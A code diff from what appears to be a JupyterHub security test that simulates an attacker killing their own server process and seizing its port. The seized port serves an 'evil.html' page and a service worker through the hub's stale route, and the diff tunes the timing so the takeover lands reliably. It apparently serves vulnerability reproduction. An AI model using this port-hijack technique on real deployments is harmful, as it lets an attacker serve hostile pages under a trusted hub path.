@@ -277,8 +277,10 @@ class Site:
 
 
 HELPER = r"""
-import http.server, sys, time
-port, page = int(sys.argv[1]), open(sys.argv[2], "rb").read()
+import http.server, os, sys, time
+port, page, server = int(sys.argv[1]), open(sys.argv[2], "rb").read(), int(sys.argv[3])
+time.sleep(3)  # until A has left A's Lab page (it would reconnect to the dying server)
+os.kill(server, 9)
 worker = b"self.addEventListener('fetch', () => {});"
 class Page(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
@@ -302,21 +304,24 @@ server.serve_forever()
 
 
 def _take_over_own_port(h: HubProcess, attacker, page: str) -> None:
-    """What A does, as A, from a kernel in A's own Lab: start a web server that waits
-    for A's server's port, then end A's server so it gets the port. The hub keeps
-    routing /user/A/ to that port until its next poll of A's server (up to 10 s)."""
+    """What A does, as A, from a kernel in A's own Lab: start a program that ends A's
+    server and takes its port. The hub keeps routing /user/A/ to that port until it
+    notices (its next poll of A's server, up to 10 s, or a failed proxy request)."""
     page_file = h.folder / "evil.html"
     page_file.write_text(page)
     page_file.chmod(0o644)
     code = (
         "import os, subprocess, sys, urllib.parse\n"
         "port = urllib.parse.urlparse(os.environ['JUPYTERHUB_SERVICE_URL']).port\n"
-        f"subprocess.Popen([sys.executable, '-c', {HELPER!r}, str(port), {str(page_file)!r}],"
-        " start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
-        "os.kill(os.getppid(), 9)\n"
+        f"subprocess.Popen([sys.executable, '-c', {HELPER!r}, str(port), {str(page_file)!r},"
+        " str(os.getppid())], start_new_session=True, stdout=subprocess.DEVNULL,"
+        " stderr=subprocess.DEVNULL)\n"
     )
     _open_lab(attacker, h.site, h.attacker)
     attacker.evaluate(RUN_IN_KERNEL_JS, [h.site.server(h.attacker), code])
+    attacker.goto("about:blank")
+    # Not while the port changes hands: a refused proxy request makes the hub drop the route.
+    time.sleep(3.5)
     deadline = time.monotonic() + 15
     while time.monotonic() < deadline:
         if _get_user_path(h, h.attacker, "/evil.html").status_code == 200:
@@ -351,7 +356,7 @@ RUN_IN_KERNEL_JS = """async ([server, code]) => {
                             new Promise(r => setTimeout(() => r(false), 500))])) { break; }
   }
   send("attack", code);
-  await new Promise(resolve => setTimeout(resolve, 1500));
+  await new Promise(resolve => setTimeout(resolve, 300));
 }"""
 
 
